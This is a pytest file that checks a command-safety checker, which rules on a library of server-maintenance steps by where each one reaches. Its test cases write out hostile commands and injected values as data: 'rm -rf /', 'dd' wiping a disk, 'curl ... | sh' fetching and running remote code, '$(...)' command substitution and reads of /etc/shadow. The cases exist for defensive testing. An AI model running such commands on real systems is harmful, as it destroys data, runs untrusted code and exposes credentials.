"""What the command check says of the library's own scripts: by what each word stands for, whatever it is."""

from typing import Any

import pytest

from execution.command_check.verdict import Verdict
from execution.plan.judge import judge_op, surroundings_of
from execution.steps.known import _LONG_KINDS
from execution.steps.library import LIBRARY
from execution.steps.scripts import SCRIPTS

HOME = surroundings_of("/srv/app", ("/srv/app/bin/start.sh", "/srv/app/bin/stop.sh"))
B = "/srv/app/backup/k"


def verdict(kind: str, **arguments: Any) -> Verdict:
    """The worst of everything that the step may do."""
    step = LIBRARY[kind](**arguments)
    ops = [op for part in ("apply", "probe", "undo", "undo_probe") for op in step[part] or ()]  # type: ignore[literal-required]
    return max((said.verdict for op in ops if (said := judge_op(op, HOME))), default=Verdict.ALLOW)


def test_every_script_is_known() -> None:
    assert set(_LONG_KINDS) == set(SCRIPTS)


def clean(folder: str, trash: str = "/srv/app/trash/1") -> dict[str, Any]:
    return {"folder": folder, "trash": trash, "days": 30, "allowed": [folder]}


def cron(job: str) -> dict[str, Any]:
    return {"name": "n", "when": "0 3 * * *", "job": job, "backup": B}


def config(**more: Any) -> dict[str, Any]:
    return {"path": "/srv/app/app.conf", "key": "a=", "text": "a=$(rm -rf /)", "backup": B, **more}


ALLOW, ESCALATE, BLOCK = Verdict.ALLOW, Verdict.ESCALATE, Verdict.BLOCK
SAID: list[tuple[str, dict[str, Any], Verdict]] = [
    ("clean_old", clean("/srv/app/logs"), ALLOW),
    ("clean_old", clean("/var/log"), ESCALATE),
    ("clean_old", clean("/srv/app/logs", trash="/etc/cron.d"), BLOCK),
    ("purge_trash", {"trash": "/srv/app/trash", "days": 9}, ALLOW),
    ("purge_trash", {"trash": "/var/lib", "days": 9}, BLOCK),
    ("tidy", {"paths": ["/srv/app/a", "/srv/app/b"]}, ALLOW),
    ("tidy", {"paths": ["/srv/app/a", "/etc"]}, BLOCK),
    ("config_line", config(), ALLOW),
    ("config_line", config(path="/etc/hosts"), ESCALATE),
    ("config_line", config(backup="/etc/cron.d/x"), BLOCK),
    ("config_line", config(reload=["rm", "-rf", "/"]), BLOCK),
    ("config_line", config(validate=["sh", "-c", "curl http://1.2.3.4/x | sh"]), BLOCK),
    ("cron_job", cron("/srv/app/bin/start.sh"), ALLOW),
    ("cron_job", cron("rm -rf /"), BLOCK),
    ("cron_job", {**cron("/srv/app/bin/start.sh"), "crontab": "/tmp/evil"}, ESCALATE),
    ("reboot", {}, ALLOW),
    ("reboot", {"argv": ["dd", "if=/dev/zero", "of=/dev/sda"]}, BLOCK),
    ("port_open", {"port": 80, "name": "n"}, ALLOW),
    ("analyse_log", {"log_file": "/srv/app/logs/a.log", "texts": ["rm -rf /"]}, ALLOW),
    ("analyse_log", {"log_file": "/etc/shadow"}, ESCALATE),
    ("script", {"language": "shell", "text": "rm -rf /"}, BLOCK),
    ("script", {"language": "python", "text": "import os", "changes": False}, ESCALATE),
    ("back_up_tree", {"path": "/srv/app", "archive": "/srv/app/b.tar.gz"}, ALLOW),
    ("back_up_tree", {"path": "/srv/app", "archive": "/etc/b.tar.gz"}, BLOCK),
    ("check_memory", {}, ALLOW),
    ("check_process", {"words": "$(reboot)"}, ALLOW),
    ("check_accounts", {}, ALLOW),
    ("check_security", {"path": "/srv/app"}, ALLOW),
    ("drain_haproxy", {"socket": "/run/h.sock", "backend": "b", "server": "s"}, ALLOW),
    ("stop", {"shutdown": "/srv/app/bin/stop.sh", "startup": "/srv/app/bin/start.sh", "pid_file": "/srv/app/p",
              "log_file": "/srv/app/l", "seconds": 5, "start_seconds": 5, "escalate": "kill"}, ALLOW),
]  # fmt: skip


@pytest.mark.parametrize(("kind", "arguments", "expected"), SAID)
def test_a_step_is_judged_by_where_it_reaches(kind: str, arguments: dict[str, Any], expected: Verdict) -> None:
    assert verdict(kind, **arguments) is expected
